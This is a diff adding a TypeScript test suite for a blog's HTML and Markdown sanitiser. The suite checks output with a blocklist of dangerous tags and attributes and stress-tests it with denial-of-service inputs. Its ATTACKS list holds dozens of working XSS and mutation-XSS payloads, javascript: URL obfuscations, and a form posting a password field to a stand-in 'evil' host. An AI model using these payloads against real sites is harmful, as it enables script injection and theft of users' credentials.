@@ -1,0 +1,257 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import * as arbitrary from '#domain/fixtures/arbitrary.ts';
+import { bodyForPage, htmlFromMarkdown, sanitizeHtml, uploadsIn } from './rich-text.ts';
+
+const noImages = () => null;
+
+/** The three ways in which an author's text comes to a page. */
+const waysOf = (html: string): string[] => [sanitizeHtml(html), htmlFromMarkdown(html), bodyForPage(sanitizeHtml(html), noImages)];
+
+/** Tags and attributes of sanitised HTML: everything in it that is not text. */
+const markup = (html: string): string[] => html.match(/<[^>]*>/g) ?? [];
+
+/** What no page may hold, in the markup itself; as text it does no harm. */
+function expectHarmless(html: string): void {
+  for (const tag of markup(html)) {
+    expect(tag).not.toMatch(
+      /^<\/?\s*(?:script|style|iframe|object|embed|svg|math|form|input|button|textarea|select|meta|base|link|template|xmp|noscript|plaintext|video|audio|frame|title|html|head|body|portal)\b/i,
+    );
+    const names = [...tag.matchAll(/\s([^\s=>"]+)(?:="[^"]*")?/g)].map(([, name]) => name?.toLowerCase() ?? '');
+    for (const name of names)
+      expect(name).not.toMatch(
+        /^(?:on|style$|srcdoc|formaction|xlink|action|background|ping|data-|is$|name$|slot$|autofocus|contenteditable|popover|http-equiv)/,
+      );
+    for (const [, address = ''] of tag.matchAll(/\s(?:href|src)="([^"]*)"/g)) {
+      const plain = address.replaceAll('&amp;', '&');
+      const { protocol, origin } = new URL(plain, 'https://site.example/blog/x');
+      expect(['https:', 'http:', 'mailto:', 'tel:']).toContain(protocol);
+      // An address elsewhere names its scheme; `//evil` and its spellings do not.
+      if (origin !== 'https://site.example') expect(plain).toMatch(/^(?:https?:|mailto:|tel:)/i);
+    }
+  }
+}
+
+const ATTACKS = [
+  '<img src=x onerror=alert(1)>',
+  '<IMG SRC="/uploads/a.jpg" OnError="alert(1)">',
+  '<img src="/uploads/a.jpg" style="background:url(//evil)">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img src="http://evil.example/pixel.gif">',
+  '<img src="//evil.example/pixel.gif">',
+  '<img src="/uploads/../admin">',
+  '<img srcset="//evil.example/a 1x" src="/uploads/a.jpg">',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<xmp><script>alert(1)</script></xmp>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea></p title="</textarea><img src=x onerror=alert(1)>">',
+  '<title><a title="</title><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<plaintext><script>alert(1)</script>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<meta http-equiv=refresh content="0;url=//evil">',
+  '<base href=//evil>',
+  '<link rel=stylesheet href=//evil/a.css>',
+  '<form action="//evil"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
+  '<video><source onerror=alert(1)></video>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<p style="background:url(//evil)">x</p>',
+  '<style>@import "//evil"; p{color:red}</style>',
+  '<style><!--</style><script>alert(1)//--></script>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href=" &#1;javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
+  '<a href="java<!-- -->script:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="blob:https://x/1">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="/\\evil.example">x</a>',
+  '<a href="\\\\evil.example">x</a>',
+  '<a href="/\t/evil.example">x</a>',
+  '<a href="/&#10;/evil.example">x</a>',
+  '<a href="https:evil">x</a>',
+  '<a xlink:href="javascript:alert(1)">x</a>',
+  '<a href="https://ok.example" onclick=alert(1) style="position:fixed">x</a>',
+  '<div onpointerover="alert(1)" data-x="1" is="x-y" contenteditable autofocus onfocus=alert(1)>x</div>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1)//<</script>',
+  '<script\x20type="text/javascript">alert(1);</script>',
+  '<script/src=//evil>',
+  '</script><script>alert(1)</script><!--',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml-stylesheet href="javascript:alert(1)"?>',
+  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
+  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
+  '<p id="x" onmouse\x00over=alert(1)>x</p>',
+  '[x](javascript:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](JAVASCRIPT&colon;alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '![x](javascript:alert(1))',
+  '![x](/uploads/a.jpg "\\" onerror=alert(1) \\"")',
+  '![" onerror="alert(1)](/uploads/a.jpg)',
+  '<javascript:alert(1)>',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+];
+
+describe('what an author must not write', () => {
+  test.each(ATTACKS)('%s', (attack) => {
+    for (const html of waysOf(attack)) expectHarmless(html);
+  });
+
+  test('nor may any mixture of it', () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...ATTACKS),
+      fc.constantFrom(
+        '<',
+        '>',
+        '"',
+        "'",
+        '=',
+        '/',
+        '<!--',
+        '-->',
+        '<p title="',
+        '<svg>',
+        '</svg>',
+        '<math>',
+        '<style>',
+        '<noscript>',
+        '`',
+        '\n\n',
+        '&lt;script&gt;',
+        '&#60;',
+        '\0',
+      ),
+      arbitrary.words(30),
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { minLength: 2, maxLength: 8 }), (pieces) => {
+        for (const html of waysOf(pieces.join(''))) expectHarmless(html);
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  test('the text in and around it stays', () => {
+    expect(sanitizeHtml('<p>Before <font color=red>the</font> <blink>middle</blink> after</p><script>alert(1)</script>')).toBe(
+      '<p>Before the middle after</p>',
+    );
+    expect(sanitizeHtml('<p>{{7*7}} ${7*7} "><</p>')).toBe('<p>{{7*7}} ${7*7} "&gt;&lt;</p>');
+  });
+});
+
+describe('what an author may write', () => {
+  const article = [
+    '<h2 id="a" class="b" lang="de" dir="rtl" title="c">Title</h2>',
+    '<p>Text with <strong>bold</strong>, <em>italic</em>, <sub>1</sub><sup>2</sup>, <mark>mark</mark> &amp; <code>a &lt; b</code><br /></p>',
+    '<p><a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener">one</a> <a href="/blog/x">two</a> <a href="#a">three</a> <a href="mailto:a@b.example">four</a> <a href="tel:+18305550142">five</a></p>',
+    '<figure><img src="/uploads/a.jpg" alt="A" width="10" height="20" /><figcaption>Under it</figcaption></figure>',
+    '<img src="https://photos.example.com/a.jpg?x=1&amp;y=2" alt="" />',
+    '<ol start="3" reversed=""><li value="7">a</li></ol>',
+    '<table><caption>c</caption><thead><tr><th scope="col" colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2">d</td></tr></tbody></table>',
+    '<details open=""><summary>s</summary>t</details>',
+    '<blockquote>q</blockquote><pre>  kept\n  as it is</pre><hr />',
+  ].join('\n');
+
+  test('stays as it is', () => {
+    expect(sanitizeHtml(article)).toBe(article);
+  });
+
+  test('sanitising what is sanitised changes nothing', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.constant(article), arbitrary.words(60)), { maxLength: 4 }),
+        (pieces) => {
+          const once = sanitizeHtml(pieces.join('\n'));
+          expect(sanitizeHtml(once)).toBe(once);
+        },
+      ),
+      { numRuns: 200 },
+    );
+  });
+
+  test('Markdown of GitHub, with HTML inside', () => {
+    const html = htmlFromMarkdown(
+      '# One\n\nA **bold** ~~word~~ <mark>here</mark>\n\n- a\n- b\n\n| x |\n|---|\n| y |\n\n![A jar](/uploads/jar.jpg)\n',
+    );
+    for (const part of [
+      '<h1>One</h1>',
+      '<strong>bold</strong>',
+      '<del>word</del>',
+      '<mark>here</mark>',
+      '<li>a</li>',
+      '<td>y</td>',
+      '<img src="/uploads/jar.jpg" alt="A jar" />',
+    ])
+      expect(html).toContain(part);
+  });
+});
+
+describe('the body as its page shows it', () => {
+  test('has its photos in their renditions, and no second main heading', () => {
+    const imageOf = (src: string) =>
+      src === '/uploads/a.jpg' ? { src: '/media/a.webp', srcset: '/media/a.webp 400w', sizes: '92vw', width: '4', height: '3' } : null;
+    const html = bodyForPage('<h1>x</h1><img src="/uploads/a.jpg" alt="A &quot;jar&quot;" /><img src="/uploads/gone.jpg" />', imageOf);
+    expect(html).toContain('<h2>x</h2>');
+    expect(html).toMatch(
+      /<img src="\/media\/a\.webp" alt="A &quot;jar&quot;"[^>]* srcset="\/media\/a\.webp 400w" sizes="92vw" width="4" height="3" \/>/,
+    );
+    expect(html).toMatch(/<img src="\/uploads\/gone\.jpg" loading="lazy" decoding="async" \/>/);
+  });
+
+  test('lets no page opened by a link reach back', () => {
+    const html = bodyForPage(sanitizeHtml('<a href="https://a.example" target="_blank" rel="opener">x</a><a href="/b">y</a>'), noImages);
+    expect(html).toBe('<a href="https://a.example" target="_blank" rel="noopener">x</a><a href="/b">y</a>');
+  });
+});
+
+describe('the photos in a body', () => {
+  test('are the uploads it shows, each once', () => {
+    const html =
+      '<img src="/uploads/a.jpg"><p><img src=\'/uploads/b.webp\'><img src="/uploads/a.jpg"></p><img src="https://x.example/uploads/c.jpg"><a href="/uploads/d.jpg">d</a>';
+    expect(uploadsIn(html)).toEqual(['/uploads/a.jpg', '/uploads/b.webp']);
+  });
+
+  test('are not what only looks like one', () => {
+    expect(
+      uploadsIn('<!-- <img src="/uploads/a.jpg"> --> &lt;img src="/uploads/b.jpg"&gt; <img alt="/uploads/c.jpg" src="/uploads/../d.jpg">'),
+    ).toEqual([]);
+  });
+});
+
+describe('bodies made to keep the site busy', () => {
+  test.each([
+    ['quotes within quotes', '>'.repeat(100_000)],
+    ['brackets', '['.repeat(100_000)],
+    ['images that never end', '![a]('.repeat(20_000)],
+    ['stars', '*a _b '.repeat(20_000)],
+    ['tags that never end', '<a '.repeat(100_000)],
+    ['less-than signs', '<'.repeat(300_000)],
+    ['boxes within boxes', '<div>'.repeat(20_000)],
+    ['comments that never end', '<!--'.repeat(50_000)],
+  ])('%s take no more than five seconds and throw nothing', (_what, body) => {
+    const started = performance.now();
+    for (const html of waysOf(body)) expectHarmless(html.slice(0, 1_000));
+    expect(performance.now() - started).toBeLessThan(5_000);
+  });
+
+  test('a text that is too deep for the parser is shown as it was written', () => {
+    expect(htmlFromMarkdown(`${'>'.repeat(10_000)} <b>& bread`)).toMatch(/^<pre>(?:&gt;)+ &lt;b&gt;&amp; bread<\/pre>$/);
+  });
+});
